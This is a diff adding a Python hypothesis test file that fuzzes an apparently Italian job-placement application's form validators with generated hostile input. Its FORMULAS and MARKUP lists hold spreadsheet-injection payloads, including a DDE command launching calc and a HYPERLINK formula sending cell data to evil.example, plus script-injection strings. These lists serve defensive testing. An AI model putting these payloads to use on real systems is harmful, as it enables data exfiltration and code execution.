@@ -1,0 +1,527 @@
+"""Every form validator against 1,000 generated inputs each: hostile text (formulas, huge fields,
+broken encodings, control characters), wrong types, odd dates. Each input gives either a clean
+value or a ``ValidationError`` naming one of the form's fields with a message the catalogue has
+in both languages (its placeholders all filled) — never another exception.
+
+Not repeated here: the tax code, phone and VAT parsers (``test_validators.py``), which already
+take 1,000 inputs each. The validators that read reference data or the database (intake,
+vacancy, workshop edition, internship terms) run against an in-memory SQLite database with the
+reference data, read-only.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import operator
+import re
+from datetime import date
+from decimal import Decimal
+from string import Formatter
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from sqlalchemy import create_engine
+from sqlalchemy.orm import Session
+from sqlalchemy.pool import StaticPool
+
+from fleming import auth, companies, competences, internships, people, vacancies, workshops
+from fleming.errors import ValidationError, ValidationErrors
+from fleming.i18n import LANGUAGES, catalogue
+from fleming.models import (
+    Base,
+    CefrLevel,
+    CompanyStatus,
+    EducationLevel,
+    FragilityMarker,
+    FundingStream,
+    LegalStatus,
+    ReferralSource,
+    Sex,
+    VacancyKind,
+)
+from fleming.validators import (
+    end_not_before_start,
+    int_in_range,
+    normalise_ateco,
+    normalise_email,
+    normalise_municipality,
+    normalise_website,
+    not_in_future,
+    optional_text,
+    required_text,
+)
+
+THOUSAND = settings(
+    max_examples=1000,
+    deadline=None,  # no timing asserts: CI machines are shared
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+TODAY = date(2026, 6, 1)
+
+# --------------------------------------------------------------------------- hostile input
+FORMULAS = (
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "=1+1\n=2+2",
+)
+MARKUP = ("<script>alert(1)</script>", "**grassetto**", "[link](javascript:alert(1))", "<b>x</b>")
+
+
+def _mojibake(text: str) -> str:
+    """UTF-8 read as Windows-1252: the classic broken-encoding text."""
+    return text.encode("utf-8").decode("cp1252", errors="replace")
+
+
+def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
+    return st.one_of(
+        st.text(max_size=max_size),
+        st.sampled_from(FORMULAS + MARKUP),
+        st.builds(operator.mul, st.text(min_size=1, max_size=3), st.integers(60, 6000)),  # huge
+        st.text(max_size=max_size).map(_mojibake),
+        st.binary(max_size=max_size).map(lambda b: b.decode("latin-1")),
+        st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Zl"]), max_size=12),
+    )
+
+
+def optional(strategy: st.SearchStrategy) -> st.SearchStrategy:
+    return st.one_of(st.none(), strategy)
+
+
+any_value = st.one_of(
+    st.none(),
+    hostile_text(),
+    st.integers(min_value=-(10**30), max_value=10**30),
+    st.floats(allow_nan=True, allow_infinity=True),
+    st.decimals(allow_nan=True, allow_infinity=True),
+    st.booleans(),
+)
+dates = st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31))
+plausible_dates = st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 12, 31))
+
+
+def clear(err: ValidationError, fields: set[str] | frozenset[str]) -> None:
+    """The error names a field of the form and has a message the user can read, in both
+    languages, with every placeholder filled."""
+    assert err.field in fields, err
+    entry = catalogue().get(err.message)
+    assert entry is not None, f"no text for {err.message!r}"
+    for lang in LANGUAGES:
+        wanted = {name for _, name, _, _ in Formatter().parse(entry[lang]) if name}
+        assert wanted <= set(err.params), (err.message, lang, wanted, err.params)
+        assert entry[lang].format(**err.params).strip()
+
+
+def clear_all(exc: ValidationErrors, fields: set[str] | frozenset[str]) -> None:
+    assert exc.errors
+    for err in exc.errors:
+        clear(err, fields)
+
+
+def fields_of(cls) -> frozenset[str]:
+    return frozenset(f.name for f in dataclasses.fields(cls))
+
+
+# --------------------------------------------------------------------------- plain validators
+@THOUSAND
+@given(hostile_text())
+def test_email(text):
+    try:
+        value = normalise_email(text)
+    except ValidationError as err:
+        clear(err, {"email"})
+    else:
+        assert value is None or ("@" in value and value == value.strip() and len(value) <= 320)
+
+
+@THOUSAND
+@given(
+    st.one_of(
+        hostile_text(),
+        st.from_regex(
+            r"(https?://)?[a-z0-9-]{1,12}(\.[a-z]{2,4}){1,2}(/[a-z?=&]{0,10})?", fullmatch=True
+        ),
+    )
+)
+def test_website(text):
+    try:
+        value = normalise_website(text)
+    except ValidationError as err:
+        clear(err, {"website"})
+    else:
+        if value is not None:
+            assert value.startswith(("http://", "https://")) and len(value) <= 300
+            assert not any(c.isspace() for c in value)
+            assert normalise_website(value) == value  # normalising again changes nothing
+
+
+@THOUSAND
+@given(st.one_of(hostile_text(), st.from_regex(r"[0-9]{2}(\.[0-9]{1,2}){0,2}", fullmatch=True)))
+def test_ateco(text):
+    try:
+        value = normalise_ateco(text)
+    except ValidationError as err:
+        clear(err, {"ateco_code"})
+    else:
+        assert re.fullmatch(r"[0-9]{2}(\.[0-9]{1,2}){0,2}", value)
+
+
+def _comuni_names() -> list[str]:
+    from fleming.reference import comuni
+
+    return [c.name for c in comuni()[::97]] + [c.istat_code for c in comuni()[::131]]
+
+
+@THOUSAND
+@given(
+    st.one_of(
+        hostile_text(),
+        st.sampled_from(_comuni_names()),
+        st.from_regex(r"[0-9]{1,7}", fullmatch=True),
+    )
+)
+def test_municipality(text):
+    from fleming.reference import comune_by_code
+
+    try:
+        value = normalise_municipality(text)
+    except ValidationError as err:
+        clear(err, {"municipality_code"})
+    else:
+        assert value is None or comune_by_code(value) is not None
+
+
+@THOUSAND
+@given(any_value, st.integers(-1000, 1000), st.integers(0, 100_000))
+def test_int_in_range(value, low, width):
+    high = low + width
+    try:
+        number = int_in_range(value, "hours", low, high)
+    except ValidationError as err:
+        clear(err, {"hours"})
+    else:
+        assert isinstance(number, int) and low <= number <= high
+
+
+@THOUSAND
+@given(optional(hostile_text(300)), st.integers(1, 400))
+def test_required_and_optional_text(text, limit):
+    for fn in (required_text, optional_text):
+        try:
+            value = fn(text, "notes", limit)
+        except ValidationError as err:
+            clear(err, {"notes"})
+            assert err.message in ("error.required", "validators.text.too_long")
+        else:
+            assert value is None or (value == value.strip() and 0 < len(value) <= limit)
+            if fn is required_text:
+                assert value
+
+
+@THOUSAND
+@given(optional(dates), optional(dates), dates)
+def test_dates_in_order_and_not_in_the_future(start, end, today):
+    try:
+        assert not_in_future(start, "start_date", today) == start
+    except ValidationError as err:
+        clear(err, {"start_date"})
+        assert start > today
+    try:
+        end_not_before_start(start, end, "end_date")
+    except ValidationError as err:
+        clear(err, {"end_date"})
+        assert end < start
+
+
+@THOUSAND
+@given(hostile_text(), hostile_text(80))
+def test_account_username_and_password(username, password):
+    try:
+        name = auth.validate_username(username)
+    except ValidationError as err:
+        clear(err, {"username"})
+    else:
+        assert name == name.strip().lower() and name
+    try:
+        assert auth.validate_password(password) == password
+    except ValidationError as err:
+        clear(err, {"password"})
+
+
+@THOUSAND
+@given(
+    optional(
+        st.one_of(
+            hostile_text(),
+            st.from_regex(r"https?://data\.europa\.eu/esco/skill/[0-9a-f-]{36}", fullmatch=True),
+        )
+    )
+)
+def test_esco_skill_uri(text):
+    try:
+        value = competences.normalise_esco_uri(text)
+    except ValidationError as err:
+        clear(err, {"esco_uri"})
+    else:
+        assert value is None or competences.ESCO_SKILL_URI.match(value)
+
+
+@THOUSAND
+@given(any_value)
+def test_workshop_hours(value):
+    try:
+        hours = workshops._hours(value, "session_hours")
+    except ValidationError as err:
+        clear(err, {"session_hours"})
+    else:
+        assert hours.is_finite() and hours == hours.quantize(Decimal("0.1"))
+
+
+@THOUSAND
+@given(any_value)
+def test_internship_allowance(value):
+    try:
+        amount = internships._allowance(value)
+    except ValidationError as err:
+        clear(err, {"monthly_allowance"})
+    else:
+        assert Decimal(0) <= amount <= internships.MAX_ALLOWANCE
+
+
+# --------------------------------------------------------------------------- company form
+company_inputs = st.builds(
+    companies.CompanyInput,
+    name=optional(hostile_text()),
+    vat_number=optional(
+        st.one_of(hostile_text(), st.sampled_from(["00743110157", "IT 00743110157"]))
+    ),
+    ateco_code=optional(st.one_of(hostile_text(), st.sampled_from(["56.10", "43.21"]))),
+    employees=st.one_of(st.none(), hostile_text(), st.integers(-5, 10**7)),
+    address=optional(hostile_text()),
+    municipality_code=optional(st.one_of(hostile_text(), st.sampled_from(["015146", "Milano"]))),
+    website=optional(hostile_text()),
+    status=st.one_of(st.sampled_from(list(CompanyStatus)), hostile_text()),
+    notes=optional(hostile_text(300)),
+)
+
+
+@THOUSAND
+@given(company_inputs)
+def test_company_form(data):
+    try:
+        values = companies.clean_company(data)
+    except ValidationErrors as exc:
+        clear_all(exc, fields_of(companies.CompanyInput))
+    else:
+        assert len(values["name"]) <= 200 and values["employees"] >= 0
+
+
+contact_inputs = st.builds(
+    companies.ContactInput,
+    name=optional(hostile_text()),
+    role=optional(hostile_text()),
+    phone=optional(st.one_of(hostile_text(), st.sampled_from(["02 1234 5678", "+39 333 1234567"]))),
+    email=optional(st.one_of(hostile_text(), st.emails())),
+)
+
+
+@THOUSAND
+@given(contact_inputs)
+def test_company_contact_form(data):
+    try:
+        values = companies.clean_contact(data)
+    except ValidationErrors as exc:
+        clear_all(exc, fields_of(companies.ContactInput))
+    else:
+        assert values["phone"] or values["email"]
+
+
+# --------------------------------------------------------------------------- forms reading the db
+@pytest.fixture(scope="module")
+def db():
+    """An in-memory database with the reference data (trades, settings, competences)."""
+    from fleming.reference import seed_reference_data
+
+    engine = create_engine(
+        "sqlite://", connect_args={"check_same_thread": False}, poolclass=StaticPool
+    )
+    Base.metadata.create_all(engine)
+    with Session(engine) as session:
+        seed_reference_data(session=session)
+        session.commit()
+    yield engine
+    engine.dispose()
+
+
+def _tax_codes() -> st.SearchStrategy[str]:
+    from tests.integration.people_helpers import code_for
+
+    return st.builds(
+        code_for,
+        last=st.sampled_from(["Rossi", "Diallo", "Ng"]),
+        first=st.sampled_from(["Maria", "Amadou", "Li"]),
+        birth=st.dates(min_value=date(1940, 1, 1), max_value=date(2010, 1, 1)),
+        sex=st.sampled_from(["M", "F"]),
+        belfiore=st.sampled_from(["F205", "Z330", "Z210"]),
+    )
+
+
+person_inputs = st.builds(
+    people.PersonInput,
+    first_name=hostile_text(),
+    last_name=hostile_text(),
+    tax_code=st.one_of(hostile_text(), _tax_codes()),
+    birth_date=optional(plausible_dates),
+    sex=optional(st.sampled_from(list(Sex))),
+    birth_comune_code=optional(st.one_of(hostile_text(8), st.sampled_from(["015146", "058091"]))),
+    country_of_birth=optional(st.one_of(hostile_text(4), st.sampled_from(["IT", "MA", "SN"]))),
+    citizenship=optional(st.one_of(hostile_text(4), st.sampled_from(["IT", "MA", "FR"]))),
+    phone=optional(hostile_text()),
+    email=optional(hostile_text()),
+    municipality_code=optional(st.one_of(hostile_text(8), st.sampled_from(["015146"]))),
+    address=optional(hostile_text(300)),
+    italian_level=optional(st.sampled_from(list(CefrLevel))),
+    education_level=optional(st.sampled_from(list(EducationLevel))),
+    legal_status=optional(st.sampled_from(list(LegalStatus))),
+    asylum_application_date=optional(plausible_dates),
+    fragilities=st.lists(st.sampled_from(list(FragilityMarker)), max_size=4).map(tuple),
+    referral_source=optional(st.sampled_from(list(ReferralSource))),
+    referral_partner_id=optional(st.integers(-3, 10**6)),
+    funding_stream=optional(st.sampled_from(list(FundingStream))),
+    did_date=optional(plausible_dates),
+    intake_date=optional(plausible_dates),
+    tutor_id=optional(st.integers(-3, 10**6)),
+    health_notes=optional(hostile_text(300)),
+    notes=optional(hostile_text(300)),
+)
+PERSON_FIELDS = fields_of(people.PersonInput) | {"birth_place"}  # the comune or place of birth
+
+
+@THOUSAND
+@given(data=person_inputs)
+def test_intake_form(db, data):
+    with Session(db) as session:
+        try:
+            checked = people.validate_person(session=session, data=data, today=TODAY)
+        except ValidationErrors as exc:
+            clear_all(exc, PERSON_FIELDS)
+        else:
+            assert checked.values["first_name"] and len(checked.values["first_name"]) <= 100
+        session.rollback()
+
+
+vacancy_inputs = st.builds(
+    vacancies.VacancyInput,
+    company_id=optional(st.integers(-3, 10**6)),
+    title=optional(hostile_text()),
+    kind=st.one_of(st.none(), st.sampled_from(list(VacancyKind)), hostile_text()),
+    min_italian_level=st.one_of(st.none(), st.sampled_from(list(CefrLevel)), hostile_text()),
+    trade_id=optional(st.integers(-3, 10)),
+    esco_uri=optional(hostile_text()),
+    positions=st.one_of(st.none(), hostile_text(), st.integers(-5, 10**6)),
+    contract_offered=optional(hostile_text()),
+    hours_percent=st.one_of(st.none(), hostile_text(), st.integers(-5, 500)),
+    municipality_code=optional(hostile_text()),
+    start_date=optional(plausible_dates),
+    deadline=optional(plausible_dates),
+    requirements=st.lists(
+        st.builds(
+            vacancies.RequirementInput,
+            competence_id=st.one_of(st.none(), st.integers(-3, 300)),
+            min_level=any_value,
+            essential=st.one_of(st.booleans(), st.none()),
+        ),
+        max_size=4,
+    ).map(tuple),
+)
+VACANCY_FIELDS = fields_of(vacancies.VacancyInput)
+
+
+@THOUSAND
+@given(data=vacancy_inputs)
+def test_vacancy_form(db, data):
+    with Session(db) as session:
+        try:
+            values = vacancies._clean(session, data)
+        except ValidationErrors as exc:
+            clear_all(exc, VACANCY_FIELDS)
+        else:
+            assert values["title"] and values["positions"] >= 1
+        session.rollback()
+
+
+edition_inputs = st.builds(
+    workshops.EditionInput,
+    trade_id=optional(st.integers(-3, 10)),
+    title=hostile_text(),
+    hours=st.one_of(st.none(), st.integers(-5, 10**6)),
+    start_date=optional(plausible_dates),
+    end_date=optional(plausible_dates),
+    trainer_name=hostile_text(),
+    italian_teacher_name=hostile_text(),
+    capacity=st.one_of(st.none(), st.integers(-5, 10**6)),
+)
+
+
+@THOUSAND
+@given(data=edition_inputs)
+def test_workshop_edition_form(db, data):
+    with Session(db) as session:
+        values, errors = workshops._check_edition(session, data)
+        for err in errors:
+            clear(err, fields_of(workshops.EditionInput))
+        if not errors:
+            assert workshops.MIN_HOURS <= values["hours"] <= workshops.MAX_HOURS
+        session.rollback()
+
+
+term_inputs = st.builds(
+    internships.UpdateInput,
+    version=st.just(1),
+    start_date=optional(plausible_dates),
+    planned_end_date=optional(plausible_dates),
+    weekly_hours=st.one_of(st.none(), hostile_text(), st.integers(-5, 10**6)),
+    monthly_allowance=any_value,
+    meal_vouchers=st.booleans(),
+    company_tutor_name=optional(hostile_text()),
+    centre_tutor_id=optional(st.integers(-3, 10**6)),
+    funding_stream=st.one_of(st.none(), st.sampled_from(list(FundingStream)), hostile_text()),
+)
+
+
+@THOUSAND
+@given(data=term_inputs)
+def test_internship_terms_form(db, data):
+    with Session(db) as session:
+        errors: list[ValidationError] = []
+        terms = internships._clean_terms(session, data, errors)
+        for err in errors:
+            clear(err, fields_of(internships.UpdateInput))
+        if not errors:
+            assert terms.weekly_hours >= 1 and terms.company_tutor_name
+        session.rollback()
+
+
+def test_the_hostile_inputs_reach_the_checks():
+    """The strategies above do produce what they promise (a strategy that never makes a huge or
+    formula field would make every test above pass for nothing)."""
+    seen = {"formula": False, "huge": False, "mojibake": False}
+
+    @settings(max_examples=400, deadline=None, database=None)
+    @given(hostile_text())
+    def look(text):
+        seen["formula"] |= text.startswith(("=", "+", "@"))
+        seen["huge"] |= len(text) > 1000
+        seen["mojibake"] |= "Ã" in text
+
+    look()
+    assert all(seen.values()), seen
+    with pytest.raises(ValidationError) as info:
+        required_text("x" * 5000, "notes", 200)
+    assert info.value.message == "validators.text.too_long"
